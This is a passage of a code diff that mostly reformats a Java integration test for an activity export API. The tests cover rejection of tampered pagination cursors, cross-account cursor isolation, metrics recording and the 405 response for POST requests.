+            inside.toString().replace(D1, "2026-11-22"),
+            inside.toString().replace("\"c\":\"", "\"c\":\"x"),
+            "{\"v\":1,\"k\":[\"2026-11-21\",\"alice\"],\"c\":\"AAAAAAAAAAAAAAAAAAAAAA\"}",
+            "{\"v\":1,\"k\":[\"2026-11-21\",\"alice\"],\"c\":null}",
+            "{\"v\":1,\"k\":\"x\",\"c\":\"x\"}",
+            "[1,2,3]",
+            "null",
+            "1",
+            "\"x\"",
+            "{}",
+            "{\"v\":1}")) {
+      bad.add(
+          Base64.getUrlEncoder()
+              .withoutPadding()
+              .encodeToString(edit.getBytes(StandardCharsets.UTF_8)));
     }
     bad.add(Base64.getUrlEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1}));
     for (String candidate : bad) {
@@ -720,53 +919,79 @@ class ExportApiIntegrationTest {
       HttpResponse<String> response = export(acmeKey, query + "&limit=2&cursor=" + enc(candidate));
       if (response.statusCode() == 200) {
         // A few one-character edits survive base64 (unused low bits) and decode to the same cursor.
-        assertEquals(EXACT.readTree(export(acmeKey, query + "&limit=2&cursor=" + enc(cursor)).body()),
-            EXACT.readTree(response.body()), candidate);
+        assertEquals(
+            EXACT.readTree(export(acmeKey, query + "&limit=2&cursor=" + enc(cursor)).body()),
+            EXACT.readTree(response.body()),
+            candidate);
         continue;
       }
       assertEquals(ExportCursor.MESSAGE, error(response, 400).get("message").asText(), candidate);
     }
     // The same cursor with other parameters.
-    for (String other : List.of(RANGE + "&group_by=user,date", "from=2026-11-02&to=" + D1 + "&group_by=date,user",
-        "from=2026-11-01&to=" + D2 + "&group_by=date,user", query + "&user_id=alice", query + "&api_key_hash=" + A1,
-        RANGE + "&group_by=date,user,endpoint", RANGE + "&group_by=user")) {
+    for (String other :
+        List.of(
+            RANGE + "&group_by=user,date",
+            "from=2026-11-02&to=" + D1 + "&group_by=date,user",
+            "from=2026-11-01&to=" + D2 + "&group_by=date,user",
+            query + "&user_id=alice",
+            query + "&api_key_hash=" + A1,
+            RANGE + "&group_by=date,user,endpoint",
+            RANGE + "&group_by=user")) {
       if (other.equals(RANGE + "&group_by=user,date")) {
         // The same grouping spelled in another order is the same walk.
         assertEquals(200, export(acmeKey, other + "&cursor=" + cursor).statusCode());
         continue;
       }
-      assertEquals(ExportCursor.MESSAGE, error(export(acmeKey, other + "&cursor=" + cursor), 400)
-          .get("message").asText(), other);
+      assertEquals(
+          ExportCursor.MESSAGE,
+          error(export(acmeKey, other + "&cursor=" + cursor), 400).get("message").asText(),
+          other);
     }
-    // Another account's key with acme's cursor: the same parameters, so only beta's rows after that position.
+    // Another account's key with acme's cursor: the same parameters, so only beta's rows after that
+    // position.
     JsonNode beta = json(export(betaKey, query + "&cursor=" + cursor));
     assertFalse(beta.toString().contains("carol"));
   }
 
-  // ---- metrics ------------------------------------------------------------------------------------------
+  // ---- metrics
+  // ------------------------------------------------------------------------------------------
 
   @Test
   void metricsTimeTheClickHouseCallsAndTheRoute() throws Exception {
     export(acmeKey, RANGE + "&api_key_hash=" + A1);
     export(acmeKey, RANGE + "&format=csv");
-    // Once the cache has polled, the activity answer loads the account's days (the SQL path's "activity" timer is
+    // Once the cache has polled, the activity answer loads the account's days (the SQL path's
+    // "activity" timer is
     // CompletedDayCacheIntegrationTest's).
     QueryTestEnv.awaitFreshPoll(server);
     get("Bearer " + acmeKey, ActivityRouter.ROUTE, "");
     String metrics = get(null, "/metrics", "").body();
     for (String query : List.of("export", "key_lookup", "cache_poll", "cache_load")) {
-      assertTrue(metrics.contains("activity_clickhouse_query_seconds_count{query=\"" + query + "\"}"), metrics);
+      assertTrue(
+          metrics.contains("activity_clickhouse_query_seconds_count{query=\"" + query + "\"}"),
+          metrics);
     }
-    assertTrue(metrics.contains("activity_requests_seconds_count{route=\"/api/v1/activity/export\",status=\"200\"}"),
+    assertTrue(
+        metrics.contains(
+            "activity_requests_seconds_count{route=\"/api/v1/activity/export\",status=\"200\"}"),
         metrics);
   }
 
   @Test
   void otherMethodsAre405() throws Exception {
-    HttpResponse<String> post = HTTP.send(HttpRequest.newBuilder(
-        URI.create("http://127.0.0.1:" + server.port() + ActivityRouter.EXPORT_ROUTE + "?" + RANGE))
-        .header("Authorization", "Bearer " + acmeKey)
-        .POST(HttpRequest.BodyPublishers.ofString("{}")).build(), HttpResponse.BodyHandlers.ofString());
+    HttpResponse<String> post =
+        HTTP.send(
+            HttpRequest.newBuilder(
+                    URI.create(
+                        "http://127.0.0.1:"
+                            + server.port()
+                            + ActivityRouter.EXPORT_ROUTE
+                            + "?"
+                            + RANGE))
+                .header("Authorization", "Bearer " + acmeKey)
+                .POST(HttpRequest.BodyPublishers.ofString("{}"))
+                .build(),
+            HttpResponse.BodyHandlers.ofString());
     error(post, 405);
   }
 
